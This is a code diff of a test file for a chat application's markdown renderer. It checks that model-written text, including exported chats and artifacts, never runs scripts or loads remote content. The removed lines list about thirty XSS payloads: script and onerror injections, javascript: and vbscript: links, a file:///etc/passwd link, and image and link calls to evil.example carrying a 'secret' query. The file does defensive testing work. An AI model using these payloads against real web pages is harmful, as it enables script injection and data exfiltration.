@@ -4,40 +4,11 @@ import './dom.ts'
 import { Markdown, splitIntoBlocks } from '../../src-renderer/shared/markdown/markdown.tsx'
 import { makeState } from './factories.ts'
 import { createFakeApi } from './fake-api.ts'
-
-/** Ways in which a model, or the document it quotes, could try to make the window run or load something. */
-const PAYLOADS = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '![x](https://evil.example/?q=secret)',
-  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
-  '![x][r]\n\n[r]: https://evil.example/a.png',
-  '[click](javascript:alert(1))',
-  '[click](JaVaScRiPt:alert(1))',
-  '[click](&#106;avascript:alert(1))',
-  '[click](java\nscript:alert(1))',
-  '[click](data:text/html;base64,PHNjcmlwdD4=)',
-  '[click](vbscript:msgbox(1))',
-  '[click](file:///etc/passwd)',
-  '<javascript:alert(1)>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<iframe src="https://evil.example"></iframe>',
-  '<svg onload=alert(1)><use href="https://evil.example/#a"/></svg>',
-  '<style>@import url(https://evil.example)</style>',
-  '<link rel=stylesheet href=https://evil.example>',
-  '<form action=https://evil.example><input name=q></form>',
-  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<details open ontoggle=alert(1)>',
-  '<cite data-n="1">1</cite> <mark data-claim="0">x</mark>',
-  '```html\n<script>alert(1)</script>\n```',
-  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
-  '- [ ] <input onfocus=alert(1) autofocus>',
-  'a[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))',
-  'www.evil.example and https://evil.example/?a=1',
-  '> <object data=https://evil.example></object>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '`<script>`<script>alert(1)</script>',
-]
+import { marked } from 'marked'
+import { chatMarkdown } from '../../src-main/services/chat-export.ts'
+import { artifactExport } from '../../src-main/services/artifact-export.ts'
+import type { Chat, Message, Source } from '../../src-preload/contract/answers.ts'
+import { PAYLOADS, VECTORS } from '../support/payloads.ts'
 
 const FORBIDDEN =
   'script, img, iframe, object, embed, link, style, form, input, svg, math, video, audio, source, base, meta, a[href], [src], [srcset], [style], [action], [formaction]'
@@ -53,11 +24,34 @@ function expectHarmless(root: HTMLElement, text: string) {
 }
 
 describe('what a model writes', () => {
-  it.each(PAYLOADS)('runs and loads nothing, whole or cut at any character: %s', (payload) => {
+  it.each(VECTORS)('runs and loads nothing, whole or cut at any character: %s', (payload) => {
     const { container, rerender } = render(<Markdown text="" />)
     for (let length = 1; length <= payload.length; length += 1) {
       rerender(<Markdown text={payload.slice(0, length)} />)
       expectHarmless(container, payload.slice(0, length))
+    }
+  })
+
+  it('runs and loads nothing in 416 payloads: each of them in text, lists, quotes, tables, headings, marks and links', () => {
+    const { container, rerender } = render(<Markdown text="" />)
+    for (const payload of PAYLOADS) {
+      rerender(<Markdown text={payload} />)
+      expectHarmless(container, payload)
+    }
+    expect(PAYLOADS.length).toBeGreaterThanOrEqual(400)
+  })
+
+  it('runs and loads nothing in another program’s view of an exported chat or artifact either', () => {
+    const view = document.createElement('div')
+    for (const payload of PAYLOADS) {
+      const source = { n: 1, title: payload, anchor: null } as Source
+      const chat = chatMarkdown({ title: payload } as Chat, [{ role: 'user', text: payload }, { role: 'assistant', text: payload, answer: { sources: [source] } }] as Message[])
+      for (const markdown of [chat, artifactExport({ markdown: payload, sources: [] }), artifactExport({ markdown: `# ${payload}`, sources: [source] })]) {
+        // As a viewer does that believes everything; a box to tick is all that it may make of it.
+        view.innerHTML = marked.parse(markdown, { async: false })
+        expect(view.querySelector(FORBIDDEN.replace('a[href], ', '').replace('input, ', '')), payload).toBeNull()
+        for (const link of view.querySelectorAll('a')) expect(link.getAttribute('href'), payload).toMatch(/^(?:https?:\/\/|#)/)
+      }
     }
   })
 
